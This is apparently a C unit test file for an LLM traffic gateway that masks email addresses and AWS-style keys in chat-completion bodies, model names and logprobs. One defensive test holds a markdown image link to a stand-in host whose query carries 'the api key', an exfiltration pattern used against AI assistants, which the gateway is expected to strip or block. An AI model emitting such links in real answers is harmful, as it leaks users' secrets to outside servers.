/*
 * Whole answers: what is in them, what is changed, and what they may not carry
 * away; and texts alone.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "inspect_body.h"


static void
a_response_has_choices_usage_and_a_model(void **state)
{
    const llmg_text_t  *t;

    static const char  body[] =
        "{\"id\":\"jane@example.com\",\"object\":\"chat.completion\","
        "\"model\":\"m\\u0031\",\"choices\":[{\"message\":{\"role\":"
        "\"assistant\",\"content\":\"zero\",\"refusal\":null},\"index\":0},"
        "{\"message\":{\"content\":\"second\",\"tool_calls\":[{\"function\":"
        "{\"arguments\":\"args\"},\"index\":3}]},\"index\":2,"
        "\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":12,"
        "\"completion_tokens\":34,\"total_tokens\":46}}";

    static const expected_t  expected[] = {
        { "zero",   LLMG_ROLE_ASSISTANT, LLMG_KIND_CONTENT },
        { "second", LLMG_ROLE_ASSISTANT, LLMG_KIND_CONTENT },
        { "args",   LLMG_ROLE_ASSISTANT, LLMG_KIND_TOOL_ARGS },
        { NULL, 0, 0 }
    };

    (void) state;

    assert_int_equal(response(policy("default", NULL), body), LLMG_OK);

    texts_are(body, expected);

    assert_true(llmg_str_eqz(fixture.result.model, "m1"));
    assert_true(fixture.result.usage.known);
    assert_int_equal(fixture.result.usage.prompt_tokens, 12);
    assert_int_equal(fixture.result.usage.completion_tokens, 34);

    t = text_of(body, "zero");
    assert_int_equal(t->choice, 0);

    t = text_of(body, "second");
    assert_int_equal(t->choice, 2);

    t = text_of(body, "args");
    assert_int_equal(t->choice, 2);
    assert_int_equal(t->tool, 3);

    /* what the server's code writes is not the model's text */

    assert_null(text_of(body, "stop"));
    assert_null(text_of(body, "chat.completion"));
    assert_int_equal(fixture.result.findings.n, 0);

    assert_int_equal(response(policy("default", NULL), "{\"choices\":[]}"),
                     LLMG_OK);
    assert_false(fixture.result.usage.known);
    assert_int_equal(fixture.result.model.len, 0);

    assert_int_equal(response(policy("default", NULL),
                              "{\"choices\":[{\"message\":{\"content\":"
                              "\"jane@example.com\"}}],\"x\":" BIG "}"),
                     LLMG_OK);
    body_is("{\"choices\":[{\"message\":{\"content\":\"[EMAIL_ADDRESS]\"}}],"
            "\"x\":" BIG "}");
}


/* the name of the model goes to the log: what is found in it does not */

static void
what_the_model_is_called_holds_no_secret(void **state)
{
    (void) state;

    assert_int_equal(request(policy("default", NULL),
                             "{\"model\":\"jane@example.com\",\"messages\":"
                             "[{\"role\":\"user\",\"content\":\"a@b.example\"}"
                             "]}"), LLMG_OK);
    assert_true(llmg_str_eqz(fixture.result.model, "EMAIL_ADDRESS"));
    assert_int_equal(fixture.result.decision.masked, 2);

    assert_int_equal(request(policy("observe", NULL),
                             "{\"messages\":[{\"role\":\"user\",\"content\":"
                             "\"hi\"}],\"model\":\"" "AK" "IA"
                             "QYLPMN5HHHFPZAM2" "\"}"), LLMG_OK);
    assert_true(llmg_str_eqz(fixture.result.model, "AWS_ACCESS_KEY"));

    assert_int_equal(response(policy("default", NULL),
                              "{\"model\":\"jane@example.com\","
                              "\"choices\":[]}"),
                     LLMG_OK);
    assert_true(llmg_str_eqz(fixture.result.model, "EMAIL_ADDRESS"));

    assert_int_equal(request(policy("default", NULL),
                             "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":"
                             "\"user\",\"content\":\"a@b.example\"}]}"),
                     LLMG_OK);
    assert_true(llmg_str_eqz(fixture.result.model, "gpt-4o"));
}


/* what a page would fetch unasked; a link only when somebody clicks */

static void
answers_carry_no_data_away(void **state)
{
#define SAID(text)                                                            \
    "{\"choices\":[{\"message\":{\"content\":\"" text "\"}}]}"
#define PLACE   "(https://a.example/p.png?q=the%20api%20key%20is%2012345)"

    (void) state;

    assert_int_equal(response(policy("default", NULL),
                              SAID("a ![x]" PLACE " b")), LLMG_OK);
    body_is(SAID("a [EXFIL_MARKDOWN] b"));

    assert_int_equal(response(policy("strict", NULL),
                              SAID("a ![x]" PLACE " b")), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);

    assert_int_equal(response(policy("default", NULL), SAID("a [x]" PLACE)),
                     LLMG_OK);
    assert_false(fixture.result.edited);

#undef PLACE
#undef SAID
}


/* of what was masked in an answer the tokens say nothing, in any choice */

static void
logprobs_leave_with_clean_answers_only(void **state)
{
#define ANSWER(text, one, other)                                              \
    "{\"choices\":[{\"logprobs\":" one ",\"message\":{\"content\":\"" text     \
    "\"}},{\"message\":{\"content\":\"b\"},\"logprobs\":" other "}],\"x\":1}"

#define TOKENS                                                                \
    "{\"content\":[{\"token\":\"jane@\",\"top_logprobs\":[]},"                \
    "{\"token\":\"example.com\"}]}"

#define TOKEN   "{\"content\":[{\"token\":\"jane@example.com\"}]}"

    (void) state;

    assert_int_equal(response(policy("default", NULL),
                              ANSWER("jane@example.com", TOKENS,
                                     "{\"a\":[]}")), LLMG_OK);
    body_is(ANSWER("[EMAIL_ADDRESS]", "null", "null"));

    assert_int_equal(response(policy("default", NULL),
                              ANSWER("jane@example.com", TOKEN, "null")),
                     LLMG_OK);
    body_is(ANSWER("[EMAIL_ADDRESS]", "null", "null"));

    assert_int_equal(response(policy("default", NULL),
                              ANSWER("jane", TOKEN, "[[1]]")), LLMG_OK);
    body_is(ANSWER("jane", "null", "null"));

    assert_int_equal(response(policy("default", NULL),
                              ANSWER("jane", TOKENS, "{}")), LLMG_OK);
    assert_false(fixture.result.edited);

    assert_int_equal(response(policy("observe", NULL),
                              ANSWER("jane@example.com", TOKENS, "{}")),
                     LLMG_OK);
    assert_false(fixture.result.edited);

#undef TOKEN
#undef TOKENS
#undef ANSWER
}


static void
a_text_alone_is_not_json(void **state)
{
    llmg_inspect_t  in;

    static const char  text[] = "\"\\u0041 jane@example.com\\n\", al@ex.org\n";

    (void) state;

    setup(&in, policy("default", NULL));

    assert_int_equal(llmg_inspect_text(&in, LLMG_REQUEST, LLMG_ROLE_USER,
                                       llmg_str(text), &fixture.result),
                     LLMG_OK);
    body_is("\"\\u0041 [EMAIL_ADDRESS]\\n\", [EMAIL_ADDRESS]\n");

    assert_int_equal(llmg_inspect_text(&in, LLMG_REQUEST, LLMG_ROLE_USER,
                                       llmg_str(""), &fixture.result),
                     LLMG_OK);
    assert_int_equal(fixture.result.body.len, 0);

    setup(&in, policy("alone", "response pii.* block roles=assistant;"));

    assert_int_equal(llmg_inspect_text(&in, LLMG_RESPONSE,
                                       LLMG_ROLE_ASSISTANT, llmg_str(text),
                                       &fixture.result), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);

    assert_int_equal(llmg_inspect_text(&in, LLMG_RESPONSE, LLMG_ROLE_TOOL,
                                       llmg_str(text), &fixture.result),
                     LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_ALLOW);
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test(a_response_has_choices_usage_and_a_model),
        cmocka_unit_test(what_the_model_is_called_holds_no_secret),
        cmocka_unit_test(answers_carry_no_data_away),
        cmocka_unit_test(logprobs_leave_with_clean_answers_only),
        cmocka_unit_test(a_text_alone_is_not_json),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, inspecting_begin, destroy);
}
